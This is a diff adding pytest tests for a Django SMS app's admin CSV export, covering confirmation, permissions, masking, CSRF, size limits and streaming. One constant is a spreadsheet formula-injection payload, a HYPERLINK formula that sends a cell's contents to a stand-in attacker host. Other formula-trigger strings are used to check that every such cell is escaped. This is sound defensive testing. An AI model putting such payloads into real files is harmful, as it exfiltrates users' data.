@@ -1,0 +1,165 @@
+"""Export messages: asked first, streamed, masked, and no spreadsheet computes anything."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+
+from django_smsww import State
+from django_smsww.admin import export as exporting
+from django_smsww.admin.export import safe
+from django_smsww.admin.permissions import HIDDEN
+from django_smsww.models import Message
+
+from ..conftest import NUMBER
+from ..support.people import browser_of, notices, staff, text_of
+
+LIST = reverse("admin:django_smsww_message_changelist")
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+SEEING = ("view_message", "export_message", "view_message_content", "view_message_costs")
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def browser(db):
+    return browser_of(staff(*SEEING))
+
+
+def choose(*rows, **extra):
+    keys = [row.pk for row in rows]
+    return {"action": "export_selected", "_selected_action": keys, "index": "0", **extra}
+
+
+def confirm(*rows, **extra):
+    """Return what the confirmation posts."""
+    form = choose(*rows, confirmed="yes", **extra)
+    del form["index"]
+    return form
+
+
+def table(answer):
+    assert answer.streaming
+    text = b"".join(answer.streaming_content).decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_export_asks_first(browser, make_message):
+    rows = [
+        make_message(segments=2, country="IT", total_price=Decimal("0.14")),
+        make_message(segments=1, country="IT", state=State.DELIVERED),
+        make_message(segments=1),
+    ]
+    answer = browser.post(LIST, choose(*rows))
+    text = text_of(answer)
+    for shown in ("3 messages", "4 segments", "IT (2), not known (1)", "0.14 EUR", "1 was deliv"):
+        assert shown in text
+    assert "Content-Disposition" not in answer
+
+
+def test_the_confirmed_are_in_the_file(browser, make_message):
+    user = staff(name="=cmd")
+    message = make_message(
+        body="Così, “fine”\nsecond; line",
+        total_price=Decimal("0.140000"),
+        tag="otp",
+        key="order-7",
+        created_by=user,
+    )
+    make_message()
+    answer = browser.post(LIST, confirm(message))
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    assert "attachment" in answer["Content-Disposition"]
+    [row] = table(answer)
+    assert (row["recipient"], row["body"]) == (NUMBER, "Così, “fine”\nsecond; line")
+    assert (row["total_price"], row["penalty"], row["tag"]) == ("0.140000", "", "otp")
+    assert (row["reference"], row["key"]) == (str(message.reference), "order-7")
+    assert row["created_by"] == "'=cmd"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "\r=1", "\n=1", "＝1+1", "+39 333", "+"],
+)
+def test_no_cell_is_a_formula(browser, make_message, text):
+    message = make_message(body=text, tag=text[:64], sender=text[:32], error=text[:32], key=text)
+    [row] = table(browser.post(LIST, confirm(message)))
+    for name in ("body", "tag", "sender", "error", "key"):
+        assert row[name].startswith("'")
+
+
+@pytest.mark.parametrize("text", [NUMBER, "0.14", "-1.5", "Hello =1", "'quoted", "", "1-2"])
+def test_numbers_and_plain_texts_survive_a_round_trip(text):
+    assert safe(text) == text
+
+
+def test_the_filters_and_the_search_hold_for_all_of_the_list(browser, make_message):
+    wanted = [make_message(tag="otp", state=State.FAILED) for _ in range(3)]
+    make_message(tag="otp")
+    make_message(state=State.FAILED)
+    address = f"{LIST}?tag=otp&state=FAILED"
+    question = text_of(browser.post(address, choose(wanted[0], select_across="1")))
+    assert "3 messages" in question
+    assert 'name="select_across" value="1"' in question
+    rows = table(browser.post(address, confirm(wanted[0], select_across="1")))
+    assert {row["reference"] for row in rows} == {str(row.reference) for row in wanted}
+
+
+@pytest.mark.parametrize("missing", ["view_message_content", "view_message_costs"])
+def test_what_may_not_be_seen_is_not_in_the_file(make_message, missing):
+    message = make_message(
+        body="secret",
+        key=f"{NUMBER}-x",
+        total_price=Decimal("0.37"),
+        error="InsufficientCredit",
+        error_code="0.37",
+        error_text="0.37",
+        custom={"phone": NUMBER},
+    )
+    client = browser_of(staff(*(set(SEEING) - {missing})))
+    [row] = table(client.post(LIST, confirm(message)))
+    values = ",".join(row.values())
+    if missing == "view_message_content":
+        assert (row["recipient"], row["body"]) == (HIDDEN, HIDDEN)
+        assert NUMBER[1:] not in values
+        assert "secret" not in values
+    else:
+        assert "0.37" not in values
+        assert NUMBER in values
+
+
+@pytest.mark.parametrize("extra", [{}, {"confirmed": "yes"}, {"select_across": "1"}])
+def test_nothing_is_exported_without_the_permission(make_message, extra):
+    message = make_message()
+    client = browser_of(staff(*(set(SEEING) - {"export_message"})))
+    answer = client.post(LIST, choose(message, **extra))
+    assert "Content-Disposition" not in answer
+    assert "export_selected" not in text_of(client.get(LIST))
+
+
+def test_nothing_is_exported_on_get_or_without_the_token(make_message):
+    message = make_message()
+    strict = browser_of(staff(*SEEING), enforce_csrf_checks=True)
+    assert "Content-Disposition" not in strict.get(LIST, confirm(message))
+    assert strict.post(LIST, confirm(message)).status_code == 403
+
+
+def test_an_endless_file_is_refused(browser, make_message, monkeypatch):
+    monkeypatch.setattr(exporting, "MOST_EXPORTED", 2)
+    rows = [make_message() for _ in range(3)]
+    answer = browser.post(LIST, confirm(*rows), follow=True)
+    assert "At most 2 messages" in notices(answer)[0]
+
+
+def test_a_long_file_takes_no_more_queries_and_comes_in_pieces(browser, make_message, monkeypatch):
+    monkeypatch.setattr(exporting, "ROWS_AT_ONCE", 10)
+    for _ in range(45):
+        make_message()
+    with CaptureQueriesContext(connection) as queries:
+        answer = browser.post(LIST, confirm(Message.objects.first(), select_across="1"))
+        pieces = list(answer.streaming_content)
+    assert len(pieces) == 1 + 5
+    assert len([query for query in queries if '"recipient"' in query["sql"]]) <= 2
